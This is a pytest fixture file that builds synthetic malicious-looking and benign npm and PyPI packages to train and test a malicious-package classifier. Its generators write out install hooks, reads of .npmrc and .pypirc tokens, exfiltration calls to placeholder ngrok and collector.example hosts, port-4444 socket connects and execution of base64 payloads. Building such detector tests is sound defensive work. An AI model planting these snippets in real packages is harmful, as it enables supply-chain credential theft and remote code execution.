from __future__ import annotations

import base64
import io
import json
import os
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import pytest

from service.dataset_service import LabeledSample
from service.features_service import default_schema, expand_dictionary, extract_features, load_dictionary
from service.training_service import train_gbt
from data.archives import Ecosystem, artifact_from_files
from models.ensemble import Label

PAYLOAD_B64 = "aW1wb3J0IG9zO29zLnN5c3RlbQ=="
EXFIL_URL = "http://collector.example/upload"


# ---------------------------------------------------------------------------
# Archive builders
# ---------------------------------------------------------------------------

def _as_bytes(content) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else bytes(content)


def _encoded(files: dict) -> dict:
    return {name: _as_bytes(content) for name, content in files.items()}


def write_tgz(path: Path, files: dict, prefix: str = "package/") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as tar:
        for name, content in files.items():
            data = _as_bytes(content)
            info = tarfile.TarInfo(name=f"{prefix}{name}")
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return path


def write_zip(path: Path, files: dict, prefix: str = "") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(f"{prefix}{name}", _as_bytes(content))
    return path


def set_zip_method(path: Path, method: int) -> Path:
    """Rewrite the compression method of every local and central header."""
    data = bytearray(path.read_bytes())
    field = method.to_bytes(2, "little")
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = data.find(signature)
        while start >= 0:
            data[start + offset:start + offset + 2] = field
            start = data.find(signature, start + 4)
    path.write_bytes(bytes(data))
    return path


@pytest.fixture
def make_npm_tgz(tmp_path):
    def build(files: dict, name: str = "pkg", version: str = "1.0.0", directory: Path | None = None) -> Path:
        target = (directory or tmp_path) / f"{name}-{version}.tgz"
        return write_tgz(target, files)
    return build


@pytest.fixture
def make_sdist(tmp_path):
    def build(files: dict, name: str = "pkg", version: str = "1.0", directory: Path | None = None) -> Path:
        target = (directory or tmp_path) / f"{name}-{version}.tar.gz"
        return write_tgz(target, files, prefix=f"{name}-{version}/")
    return build


@pytest.fixture
def make_wheel(tmp_path):
    def build(files: dict, name: str = "pkg", version: str = "1.0", directory: Path | None = None) -> Path:
        target = (directory or tmp_path) / f"{name}-{version}-py3-none-any.whl"
        return write_zip(target, files)
    return build


# ---------------------------------------------------------------------------
# Synthetic packages
# ---------------------------------------------------------------------------

def npm_package_files(name: str, version: str, malicious: bool, rng: np.random.Generator | None = None) -> dict:
    """package.json + index.js (+ README) for a benign-like or mal-like npm package."""
    rng = rng or np.random.default_rng(0)
    scripts = {"preinstall": "node index.js"} if malicious else {"test": "mocha"}
    manifest = json.dumps({"name": name, "version": version, "scripts": scripts})
    words = ["alpha", "beta", "gamma", "delta", "render", "value", "items", "count"]
    body = "\n".join(
        f"const {words[i % len(words)]}{i} = \"{words[int(rng.integers(len(words)))]}\";"
        for i in range(int(rng.integers(3, 8)))
    )
    if malicious:
        body += (
            f"\nconst payload = \"{PAYLOAD_B64}\";"
            f"\nrequire(\"https\").get(\"{EXFIL_URL}\");"
            "\nrequire(\"child_process\").exec(Buffer.from(payload, \"base64\").toString());\n"
        )
        return _encoded({"package.json": manifest, "index.js": body})
    return _encoded({
        "package.json": manifest, "index.js": body + "\nmodule.exports = {};\n", "README.md": f"# {name}\n",
    })


VOCABULARY = (
    "alpha", "beta", "gamma", "delta", "render", "value", "items", "count", "parse", "format",
    "layout", "widget", "merge", "theme", "color", "table", "label", "chart", "style", "field",
    "query", "route", "cache", "state", "button", "border", "margin", "window", "column", "filter",
)
HEX = "0123456789abcdef"


def _phrase(rng: np.random.Generator, low: int = 2, high: int = 6) -> str:
    return " ".join(rng.choice(VOCABULARY, size=int(rng.integers(low, high))))


def _word(rng: np.random.Generator) -> str:
    return str(rng.choice(VOCABULARY))


def _host(rng: np.random.Generator) -> str:
    return "".join(rng.choice(list(HEX), size=12))


def _address(rng: np.random.Generator) -> str:
    return ".".join(str(int(rng.integers(11, 223))) for _ in range(4))


def _blob(rng: np.random.Generator) -> str:
    return base64.b64encode(rng.bytes(int(rng.integers(24, 64)))).decode()


def _js_body(rng: np.random.Generator) -> list[str]:
    lines = []
    for i in range(int(rng.integers(3, 12))):
        if rng.random() < 0.3:
            lines.append(f"function {_word(rng)}{i}(a, b) {{ return a + b * {i}; }}")
        else:
            lines.append(f"const {_word(rng)}{i} = \"{_phrase(rng)}\";")
    if rng.random() < 0.3:
        lines.append(f"const docs = \"https://docs.example.org/{_word(rng)}\";")
    return lines


def _py_body(rng: np.random.Generator) -> list[str]:
    lines = []
    for i in range(int(rng.integers(3, 12))):
        if rng.random() < 0.3:
            lines.append(f"def {_word(rng)}{i}(a, b):\n    return a + b * {i}\n")
        else:
            lines.append(f"{_word(rng)}{i} = \"{_phrase(rng)}\"")
    if rng.random() < 0.3:
        lines.append(f"DOCS = \"https://docs.example.org/{_word(rng)}\"")
    return lines


_NPM_SIGNALS = {
    "blob": lambda rng: f"const data = \"{_blob(rng)}\";\nconst raw = Buffer.from(data, \"base64\");",
    "exec": lambda rng: "require(\"child_process\").exec(raw.toString());",
    "secrets": lambda rng: "const token = fs.readFileSync(home + \"/.npmrc\", \"utf8\");",
    "exfil": lambda rng: f"https.get(\"http://{_host(rng)}.ngrok.io/c?d=\" + token);",
    "ip": lambda rng: f"net.connect(4444, \"{_address(rng)}\");",
}

_PYPI_SIGNALS = {
    "blob": lambda rng: f"payload = \"{_blob(rng)}\"",
    "exec": lambda rng: "subprocess.Popen([\"/bin/sh\", \"-c\", command])",
    "secrets": lambda rng: "token = open(os.path.expanduser(\"~/.pypirc\")).read()",
    "exfil": lambda rng: f"urllib.request.urlopen(\"https://{_host(rng)}.ngrok.io/u\", data=token)",
    "ip": lambda rng: f"sock.connect((\"{_address(rng)}\", 4444))",
}


def _signals(rng: np.random.Generator, table: dict) -> list[str]:
    names = list(table)
    chosen = rng.choice(names, size=int(rng.integers(2, len(names) + 1)), replace=False)
    return [table[name](rng) for name in names if name in set(chosen)]


def synthetic_npm_files(name: str, malicious: bool, rng: np.random.Generator) -> dict:
    """Noisier npm generator: some benign packages run node-gyp, some mal-like ones have no hook."""
    scripts = {"test": "mocha"}
    if malicious and rng.random() < 0.85:
        scripts = {"preinstall": "node setup.js"}
    elif not malicious and rng.random() < 0.15:
        scripts["install"] = "node-gyp rebuild"
    manifest = json.dumps({
        "name": name, "version": "1.0.0", "description": _phrase(rng), "main": "index.js", "scripts": scripts,
    })
    files = {"package.json": manifest, "index.js": "\n".join(_js_body(rng)) + "\nmodule.exports = {};\n"}
    if malicious:
        files["setup.js"] = "\n".join(_signals(rng, _NPM_SIGNALS)) + "\n"
    else:
        files["README.md"] = f"# {name}\n\n{_phrase(rng, 6, 20)}\n"
        if rng.random() < 0.2:
            files["lib/helpers.js"] = "\n".join(_js_body(rng)) + "\n"
    return files


def synthetic_pypi_files(name: str, malicious: bool, rng: np.random.Generator) -> dict:
    """Noisier PyPI generator: most benign sdists ship a plain setup.py."""
    module = name.replace("-", "_")
    setup_py = f"from setuptools import setup\n\nsetup(name=\"{name}\", version=\"1.0\", packages=[\"{module}\"])\n"
    body = "\n".join(_py_body(rng)) + "\n"
    if malicious:
        payload = "import os\nimport socket\nimport subprocess\nimport urllib.request\n\n"
        payload += "\n".join(_signals(rng, _PYPI_SIGNALS)) + "\n"
        if rng.random() < 0.8:
            return {"setup.py": setup_py + payload, f"{module}/__init__.py": body}
        return {"setup.py": setup_py, f"{module}/__init__.py": body + payload}
    files = {f"{module}/__init__.py": body, "README.md": f"# {name}\n\n{_phrase(rng, 6, 20)}\n"}
    if rng.random() < 0.6:
        files["setup.py"] = setup_py
    else:
        files["pyproject.toml"] = f"[project]\nname = \"{name}\"\nversion = \"1.0\"\n"
    return files


def synthetic_population(ecosystem, n_malicious: int, n_benign: int, seed: int, schema, dictionary) -> list:
    """Labeled samples from the noisier generators, mal-like first."""
    ecosystem = Ecosystem(ecosystem)
    rng = np.random.default_rng(seed)
    build = synthetic_npm_files if ecosystem is Ecosystem.NPM else synthetic_pypi_files
    samples = []
    for i in range(n_malicious + n_benign):
        malicious = i < n_malicious
        name = f"{'mal' if malicious else 'ok'}-{ecosystem.value}-{i}"
        version = "1.0.0" if ecosystem is Ecosystem.NPM else "1.0"
        artifact = artifact_from_files(ecosystem, name, version, _encoded(build(name, malicious, rng)))
        samples.append(LabeledSample(
            feature_vector=extract_features(artifact, schema, dictionary),
            label=Label.MALICIOUS if malicious else Label.BENIGN,
            ecosystem=ecosystem,
            name=name,
            version=version,
        ))
    return samples


@pytest.fixture(scope="session")
def schema():
    return default_schema()


@pytest.fixture(scope="session")
def dictionary():
    return load_dictionary()


@pytest.fixture(scope="session")
def small_dictionary():
    return expand_dictionary(["/dev/tcp/", "child_process", "bash"])


@pytest.fixture(scope="session")
def synthetic_artifacts():
    """20 mal-like and 20 benign-like npm artifacts."""
    rng = np.random.default_rng(7)
    artifacts = []
    for i in range(40):
        malicious = i % 2 == 0
        name = f"{'evil' if malicious else 'good'}-{i}"
        files = npm_package_files(name, "1.0.0", malicious, rng)
        artifacts.append((artifact_from_files(Ecosystem.NPM, name, "1.0.0", files), malicious))
    return artifacts


@pytest.fixture(scope="session")
def synthetic_samples(synthetic_artifacts, schema, dictionary):
    return [
        LabeledSample(
            feature_vector=extract_features(artifact, schema, dictionary),
            label=Label.MALICIOUS if malicious else Label.BENIGN,
            ecosystem=artifact.ecosystem,
            name=artifact.name,
            version=artifact.version,
        )
        for artifact, malicious in synthetic_artifacts
    ]


@pytest.fixture(scope="session")
def trained_model(synthetic_samples, schema):
    """Small boosted model that separates the synthetic packages."""
    X = [s.feature_vector for s in synthetic_samples]
    y = [s.label for s in synthetic_samples]
    return train_gbt(X, y, {"n_estimators": 10, "max_depth": 2, "learning_rate": 0.5}, seed=0, schema=schema)


@pytest.fixture
def model_file(tmp_path, trained_model):
    from models.serialization import save_model

    path = tmp_path / "model.json"
    save_model(trained_model, path)
    return path


@pytest.fixture
def chdir_tmp(tmp_path):
    previous = os.getcwd()
    os.chdir(tmp_path)
    yield tmp_path
    os.chdir(previous)
